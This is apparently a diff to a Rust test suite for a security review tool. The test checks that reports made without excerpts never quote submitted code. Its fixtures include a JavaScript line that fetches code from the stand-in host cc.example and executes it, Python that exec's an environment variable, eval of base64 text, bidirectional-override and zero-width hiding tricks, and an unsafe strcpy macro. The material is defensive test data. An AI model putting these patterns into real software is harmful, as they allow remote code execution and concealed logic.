@@ -194,6 +194,16 @@ fn lines_below(folder: &Path) -> BTreeSet<String> {
     lines.into_iter().filter(|line| !paths.iter().any(|path| path.contains(line.as_str()))).collect()
 }
 
+/// Whether the report has something from each list that quotes a submission.
+fn withheld_of_every_kind(submission: &Path) -> bool {
+    let report = Review::of(submission).arg("--no-excerpts").run().report();
+    report.indicators.len() > 4
+        && report.components.is_some_and(|packages| packages.list.len() > 3)
+        && report.disclosures.is_some_and(|disclosures| disclosures.usable)
+        && report.scope.claim.is_some()
+        && report.metrics.is_some()
+}
+
 #[test]
 fn a_review_without_excerpts_holds_no_line_of_the_submission() {
     let scratch = tempfile::tempdir().expect("a scratch folder");
@@ -203,10 +213,40 @@ fn a_review_without_excerpts_holds_no_line_of_the_submission() {
         "tool/run.js",
         b"const cp = require('child_process');\nfetch('https://cc.example/x').then(r => r.text()).then(t => cp.exec(t));\n",
     );
+    // What signs of hiding, packages, metrics and the vendor's own files are taken from.
+    for (path, text) in [
+        (
+            "package.json",
+            "{\n  \"name\": \"collector\",\n  \"version\": \"1.0.0\",\n  \"dependencies\": {\n    \"left-pad\": \"^1.3.0\"\n  }\n}\n",
+        ),
+        ("requirements.txt", "requests==2.31.0  # pinned by hand\nzope.interface>=5,<6\n"),
+        ("pyproject.toml", "[project]\nname = \"collector\"\nversion = \"1.0.0\"\ndependencies = [\"flask >= 2\"]\n"),
+        (".gitattributes", "secret-tools/* export-ignore\n"),
+        (".eslintignore", "generated/secret-part.js\n"),
+        (
+            "tool/hidden.py",
+            "import os\n# pylint: disable=exec-used,eval-used\nexec(os.environ['PAYLOAD_TEXT'])  # noqa: S102\nblob = '4d5a90000300000004000000ffff0000b800000000000000400000000000000000000000'\naccess = 'user\u{202e} # only admins\u{2066}'\n",
+        ),
+        (
+            "tool/hidden.js",
+            "/* eslint-disable no-eval, no-implied-eval */\nconst run\u{200b}ner = eval(atob('YWxlcnQoImEgbG9uZyBlbm91Z2ggcGF5bG9hZCIp'));\n",
+        ),
+        (
+            "tool/copy.c",
+            "#include <string.h>\n#define strncpy(to, from, size) quick_copy(to, from, size)\nvoid f(char *a, char *b) { strcpy(a, b); memcpy(a, b, 9); }\n",
+        ),
+        ("submission.toml", "vendor = \"Example House\"\nproduct = \"Collector\"\nversion = \"1.0.0\"\n"),
+        (
+            "candor.disclosure.toml",
+            "[[disclosure]]\nid = \"uploads\"\ndata = [\"FILE\"]\nchannel = \"egress.http\"\nendpoints = [\"collect.example\"]\npurpose = \"what the user hands in\"\n",
+        ),
+    ] {
+        write(scratch.path(), path, text.as_bytes());
+    }
     for submission in [acme(), scratch.path()] {
         let lines = lines_below(submission);
         let mut told = 0;
-        for format in ["text", "json", "sarif"] {
+        for format in ["text", "json", "sarif", "markdown", "cyclonedx"] {
             let reviewed = Review::of(submission).arg("--no-excerpts").arg(format!("--format={format}")).run();
             let report = reviewed.report();
             assert!(!report.findings.is_empty() && report.code.as_ref().is_some_and(|code| code.withheld));
@@ -228,6 +268,7 @@ fn a_review_without_excerpts_holds_no_line_of_the_submission() {
             told += lines.len();
         }
         assert!(told > 9, "{told} lines to look for");
+        assert!(submission == acme() || withheld_of_every_kind(submission), "nothing was there to be quoted");
         let with = Review::of(submission).run();
         assert!(
             outputs(&with).iter().any(|(_, text)| lines.iter().any(|line| text.contains(line.as_str()))),
